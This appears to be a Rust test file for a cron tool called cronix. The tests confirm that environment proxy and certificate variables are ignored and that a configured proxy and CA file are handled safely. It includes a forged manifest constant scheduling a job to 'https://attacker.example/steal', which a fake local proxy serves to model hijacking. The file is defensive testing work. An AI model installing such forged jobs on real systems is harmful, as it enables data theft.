//! How cronix reaches its peers (issue 16, finding 5): the environment's proxy and CA variables change
//! nothing; the config's `http_proxy` carries requests to other hosts and never to loopback; TLS trusts
//! the system store or the config's `tls_ca_file`, never `SSL_CERT_FILE`/`SSL_CERT_DIR`. Real binary,
//! a raw TCP listener standing in for a proxy, local HTTP servers, and a local rustls server whose
//! certificate is signed by a CA made with the `openssl` command.

use crate::reconcile_support;
use crate::support;

use std::io::{Read, Write};
use std::net::{TcpListener, TcpStream};
use std::path::{Path, PathBuf};
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::{Arc, Mutex};
use std::time::Duration;

use serde_json::{Value, json};
use support::{Fixture, Reply, SECRET_ENV, SENTINEL, Server};

/// A manifest that only the proxy serves: it must never be installed.
const FORGED: &str = r#"{"version":1,"app":"billing","jobs":[{"name":"forged","schedule":"@hourly","request":{"url":"https://attacker.example/steal"}}]}"#;

/// A listener that answers every request with 200 and the forged manifest, recording each request's
/// head (request line and headers).
struct Proxy {
    port: u16,
    seen: Arc<Mutex<Vec<String>>>,
}

impl Proxy {
    fn start() -> Proxy {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let port = listener.local_addr().unwrap().port();
        let seen = Arc::new(Mutex::new(Vec::new()));
        let sink = Arc::clone(&seen);
        std::thread::spawn(move || {
            for stream in listener.incoming().flatten() {
                let sink = Arc::clone(&sink);
                std::thread::spawn(move || serve_forged(stream, &sink));
            }
        });
        Proxy { port, seen }
    }

    fn url(&self) -> String {
        format!("http://127.0.0.1:{}", self.port)
    }

    fn seen(&self) -> Vec<String> {
        self.seen.lock().unwrap().clone()
    }
}

fn serve_forged(mut stream: TcpStream, sink: &Mutex<Vec<String>>) {
    stream
        .set_read_timeout(Some(Duration::from_secs(5)))
        .unwrap();
    let Some(head) = read_request(&mut stream) else {
        return;
    };
    sink.lock().unwrap().push(head);
    let reply = format!(
        "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{FORGED}",
        FORGED.len()
    );
    let _ = stream.write_all(reply.as_bytes());
    let _ = stream.flush();
}

/// Read one request (head and a `Content-Length` body); returns the head as text.
fn read_request(stream: &mut impl Read) -> Option<String> {
    let mut buf = Vec::new();
    let mut byte = [0u8; 1];
    while !buf.ends_with(b"\r\n\r\n") {
        match stream.read(&mut byte) {
            Ok(1) => buf.push(byte[0]),
            _ => return None,
        }
    }
    let head = String::from_utf8_lossy(&buf).into_owned();
    let length = head
        .lines()
        .find_map(|l| {
            let (name, value) = l.split_once(':')?;
            name.eq_ignore_ascii_case("content-length")
                .then(|| value.trim().parse::<usize>().ok())?
        })
        .unwrap_or(0);
    let mut body = vec![0u8; length];
    stream.read_exact(&mut body).ok()?;
    Some(head)
}

/// Every proxy variable a client library might read, pointing at `proxy`, with empty exclusions.
fn proxy_environment(cmd: &mut assert_cmd::Command, proxy: &Proxy) {
    for name in [
        "HTTP_PROXY",
        "HTTPS_PROXY",
        "ALL_PROXY",
        "http_proxy",
        "https_proxy",
        "all_proxy",
    ] {
        cmd.env(name, proxy.url());
    }
    cmd.env("NO_PROXY", "").env("no_proxy", "");
}

fn one_attempt() -> Value {
    json!({"retries": {"max_attempts": 1, "min_seconds": 0, "max_seconds": 1}})
}

fn stderr(out: &std::process::Output) -> String {
    String::from_utf8_lossy(&out.stderr).into_owned()
}

#[test]
fn the_shim_ignores_the_proxy_variables() {
    let proxy = Proxy::start();
    let app = Server::start(vec![Reply::status(204)]);
    let fx = Fixture::new();
    fx.write_spec(&fx.spec(&app.url("/api/run"), one_attempt()));
    let mut cmd = fx.trigger();
    proxy_environment(&mut cmd, &proxy);
    let out = cmd.output().unwrap();
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert_eq!(app.wait_for(1, Duration::from_secs(2)), 1);
    assert_eq!(app.received()[0].verified, Ok(0));
    assert_eq!(
        proxy.seen(),
        Vec::<String>::new(),
        "no request may go to the proxy"
    );
}

#[test]
fn alert_webhooks_ignore_the_proxy_variables() {
    let proxy = Proxy::start();
    let app = Server::start(vec![Reply::status(500)]);
    let alerts = Server::start(vec![Reply::status(204)]);
    let fx = Fixture::new();
    fx.write_config(&format!(
        "version: 1\nalerts:\n  - webhook: {}\n    secret_ref: env:{SECRET_ENV}\n    after_failures: 1\n",
        alerts.url("/hooks/cronix")
    ));
    fx.write_spec(&fx.spec(&app.url("/api/run"), one_attempt()));
    let mut cmd = fx.trigger();
    proxy_environment(&mut cmd, &proxy);
    let out = cmd.output().unwrap();
    assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
    assert_eq!(alerts.wait_for(1, Duration::from_secs(3)), 1, "the alert");
    assert_eq!(alerts.received()[0].verified, Ok(0));
    assert_eq!(proxy.seen(), Vec::<String>::new());
}

/// A local server that serves `body` to every signed GET (401 to an unsigned one).
fn manifest_server(body: String) -> (String, Arc<AtomicUsize>) {
    let server = tiny_http::Server::http("127.0.0.1:0").unwrap();
    let base = format!("http://{}", server.server_addr().to_ip().unwrap());
    let served = Arc::new(AtomicUsize::new(0));
    let count = Arc::clone(&served);
    std::thread::spawn(move || {
        for request in server.incoming_requests() {
            let signed = request
                .headers()
                .iter()
                .any(|h| h.field.equiv("X-Cron-Signature"));
            count.fetch_add(1, Ordering::SeqCst);
            let status = if signed { 200 } else { 401 };
            let _ = request
                .respond(tiny_http::Response::from_string(body.clone()).with_status_code(status));
        }
    });
    (base, served)
}

#[test]
fn apply_from_a_loopback_url_ignores_the_proxy_variables() {
    let proxy = Proxy::start();
    let env = reconcile_support::Env::new();
    let genuine = reconcile_support::manifest("billing", &[("settle", &["@hourly"])]);
    let (base, served) = manifest_server(genuine.to_string());
    let source = format!("{base}/.well-known/cron-manifest");
    let mut cmd = env.cmd("apply", &["--manifest", &source]);
    cmd.env(SECRET_ENV, SENTINEL);
    proxy_environment(&mut cmd, &proxy);
    let out = cmd.output().unwrap();
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert_eq!(served.load(Ordering::SeqCst), 1, "the app served the fetch");
    assert_eq!(proxy.seen(), Vec::<String>::new());
    let specs = env.spec_files();
    assert!(specs.contains_key("billing.settle.json"), "{specs:?}");
    assert!(!specs.keys().any(|k| k.contains("forged")), "{specs:?}");
    assert!(!env.crontab_text().contains("forged"));
}

#[test]
fn the_configured_proxy_carries_requests_to_other_hosts_and_never_to_loopback() {
    let proxy = Proxy::start();
    let app = Server::start(vec![Reply::status(204)]);
    let fx = Fixture::new();
    fx.write_config(&format!(
        "version: 1\nhttp_proxy: {}\nallow_http_hosts: [example.invalid]\n",
        proxy.url()
    ));
    fx.write_spec(&fx.spec("http://example.invalid/api/run", one_attempt()));
    let out = fx.trigger().output().unwrap();
    assert_eq!(
        out.status.code(),
        Some(0),
        "the proxy answered 200: {}",
        stderr(&out)
    );
    let seen = proxy.seen();
    assert_eq!(seen.len(), 1, "{seen:?}");
    assert!(
        seen[0].starts_with("POST http://example.invalid/api/run HTTP/1.1\r\n"),
        "{seen:?}"
    );
    assert!(seen[0].to_ascii_lowercase().contains("x-cron-signature:"));

    fx.write_spec(&fx.spec(&app.url("/api/run"), one_attempt()));
    let out = fx.trigger().output().unwrap();
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert_eq!(app.wait_for(1, Duration::from_secs(2)), 1, "sent directly");
    assert_eq!(
        proxy.seen().len(),
        1,
        "loopback never goes through the proxy"
    );
}

#[test]
fn a_proxy_with_credentials_or_another_scheme_is_refused_with_the_key() {
    let fx = Fixture::new();
    fx.write_spec(&fx.spec("https://example.invalid/api/run", one_attempt()));
    for (bad, why) in [
        ("http://user:pw@127.0.0.1:3128", "user name or password"),
        (
            "socks5://127.0.0.1:1080",
            "scheme \"socks5\" is not supported",
        ),
        (
            "http://127.0.0.1:3128/path",
            "has a path, query or fragment",
        ),
    ] {
        fx.write_config(&format!("version: 1\nhttp_proxy: {bad}\n"));
        let out = fx.trigger().output().unwrap();
        assert_eq!(out.status.code(), Some(3), "{bad}: {}", stderr(&out));
        let err = stderr(&out);
        assert!(err.contains("http_proxy") && err.contains(why), "{err}");
        assert!(!err.contains("pw@"), "the password is not echoed: {err}");
    }
}

/// A CA and a server certificate for 127.0.0.1 signed by it, made with `openssl` in `dir`.
fn make_certs(dir: &Path) -> (PathBuf, PathBuf, PathBuf) {
    let run = |args: &[&str]| {
        let out = std::process::Command::new("openssl")
            .args(args)
            .current_dir(dir)
            .output()
            .expect("the openssl command");
        assert!(out.status.success(), "openssl {args:?}: {}", stderr(&out));
    };
    let ec = [
        "-newkey",
        "ec",
        "-pkeyopt",
        "ec_paramgen_curve:P-256",
        "-nodes",
    ];
    run(&[
        &["req", "-x509"][..],
        &ec,
        &[
            "-keyout",
            "ca.key",
            "-out",
            "ca.pem",
            "-days",
            "2",
            "-subj",
            "/CN=cronix test CA",
        ],
    ]
    .concat());
    run(&[
        &["req"][..],
        &ec,
        &[
            "-keyout",
            "server.key",
            "-out",
            "server.csr",
            "-subj",
            "/CN=localhost",
        ],
    ]
    .concat());
    std::fs::write(
        dir.join("ext.cnf"),
        "subjectAltName=IP:127.0.0.1,DNS:localhost\nbasicConstraints=CA:FALSE\nextendedKeyUsage=serverAuth\n",
    )
    .unwrap();
    run(&[
        "x509",
        "-req",
        "-in",
        "server.csr",
        "-CA",
        "ca.pem",
        "-CAkey",
        "ca.key",
        "-CAcreateserial",
        "-out",
        "server.pem",
        "-days",
        "2",
        "-extfile",
        "ext.cnf",
    ]);
    (
        dir.join("ca.pem"),
        dir.join("server.pem"),
        dir.join("server.key"),
    )
}

/// A TLS server on 127.0.0.1 answering every request with 200 and `body`; counts the requests that
/// arrived over a completed handshake.
fn tls_server(cert: &Path, key: &Path, body: &'static str) -> (u16, Arc<AtomicUsize>) {
    use rustls::pki_types::pem::PemObject;
    use rustls::pki_types::{CertificateDer, PrivateKeyDer};
    let chain = vec![CertificateDer::from_pem_file(cert).unwrap()];
    let key = PrivateKeyDer::from_pem_file(key).unwrap();
    let config = rustls::ServerConfig::builder_with_provider(Arc::new(
        rustls::crypto::ring::default_provider(),
    ))
    .with_safe_default_protocol_versions()
    .unwrap()
    .with_no_client_auth()
    .with_single_cert(chain, key)
    .unwrap();
    let config = Arc::new(config);
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let served = Arc::new(AtomicUsize::new(0));
    let count = Arc::clone(&served);
    std::thread::spawn(move || {
        for stream in listener.incoming().flatten() {
            let config = Arc::clone(&config);
            let count = Arc::clone(&count);
            std::thread::spawn(move || {
                stream
                    .set_read_timeout(Some(Duration::from_secs(5)))
                    .unwrap();
                let conn = rustls::ServerConnection::new(config).unwrap();
                let mut tls = rustls::StreamOwned::new(conn, stream);
                if read_request(&mut tls).is_none() {
                    return;
                }
                count.fetch_add(1, Ordering::SeqCst);
                let reply = format!(
                    "HTTP/1.1 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
                    body.len()
                );
                let _ = tls.write_all(reply.as_bytes());
                tls.conn.send_close_notify();
                let _ = tls.flush();
            });
        }
    });
    (port, served)
}

#[test]
fn ssl_cert_variables_add_no_trust_and_tls_ca_file_does() {
    let fx = Fixture::new();
    let certs = fx.path("certs");
    std::fs::create_dir(&certs).unwrap();
    let (ca, cert, key) = make_certs(&certs);
    let (port, served) = tls_server(&cert, &key, "{}");
    fx.write_spec(&fx.spec(&format!("https://127.0.0.1:{port}/api/run"), one_attempt()));

    let out = fx
        .trigger()
        .env("SSL_CERT_FILE", &ca)
        .env("SSL_CERT_DIR", &certs)
        .output()
        .unwrap();
    assert_eq!(
        out.status.code(),
        Some(2),
        "a server signed by the test CA must not be trusted: {}",
        stderr(&out)
    );
    assert_eq!(served.load(Ordering::SeqCst), 0, "no request over TLS");

    fx.write_config(&format!("version: 1\ntls_ca_file: {}\n", ca.display()));
    let out = fx.trigger().output().unwrap();
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert_eq!(served.load(Ordering::SeqCst), 1);
}

#[test]
fn the_manifest_fetch_trusts_tls_ca_file_and_not_ssl_cert_file() {
    let env = reconcile_support::Env::new();
    let certs = env.root().join("certs");
    std::fs::create_dir(&certs).unwrap();
    let (ca, cert, key) = make_certs(&certs);
    let genuine = reconcile_support::manifest("billing", &[("settle", &["@hourly"])]).to_string();
    let (port, served) = tls_server(&cert, &key, Box::leak(genuine.into_boxed_str()));
    let source = format!("https://127.0.0.1:{port}/.well-known/cron-manifest");
    let validate = |extra_env: &[(&str, &Path)]| {
        let mut cmd = env.cmd_plain(&["validate", "--secret-ref", "env:FETCH_KEY", &source]);
        cmd.env("FETCH_KEY", SENTINEL);
        for (name, value) in extra_env {
            cmd.env(name, value);
        }
        cmd.output().unwrap()
    };
    let out = validate(&[("SSL_CERT_FILE", &ca), ("SSL_CERT_DIR", &certs)]);
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    assert!(stderr(&out).contains("fetch failed"), "{}", stderr(&out));
    assert_eq!(served.load(Ordering::SeqCst), 0);

    std::fs::write(
        env.root().join("cronix.yaml"),
        format!("tls_ca_file: {}\n", ca.display()),
    )
    .unwrap();
    let out = validate(&[]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert_eq!(served.load(Ordering::SeqCst), 1);
}

#[test]
fn a_tls_ca_file_that_fails_the_trust_rule_is_refused() {
    use std::os::unix::fs::PermissionsExt;
    let fx = Fixture::new();
    let certs = fx.path("certs");
    std::fs::create_dir(&certs).unwrap();
    let (ca, cert, key) = make_certs(&certs);
    let (port, served) = tls_server(&cert, &key, "{}");
    std::fs::set_permissions(&ca, std::fs::Permissions::from_mode(0o666)).unwrap();
    fx.write_config(&format!("version: 1\ntls_ca_file: {}\n", ca.display()));
    fx.write_spec(&fx.spec(&format!("https://127.0.0.1:{port}/api/run"), one_attempt()));
    let out = fx.trigger().output().unwrap();
    assert_eq!(out.status.code(), Some(3), "{}", stderr(&out));
    let err = stderr(&out);
    assert!(
        err.contains("tls_ca_file") && err.contains("chmod go-w"),
        "{err}"
    );
    assert_eq!(served.load(Ordering::SeqCst), 0);
}
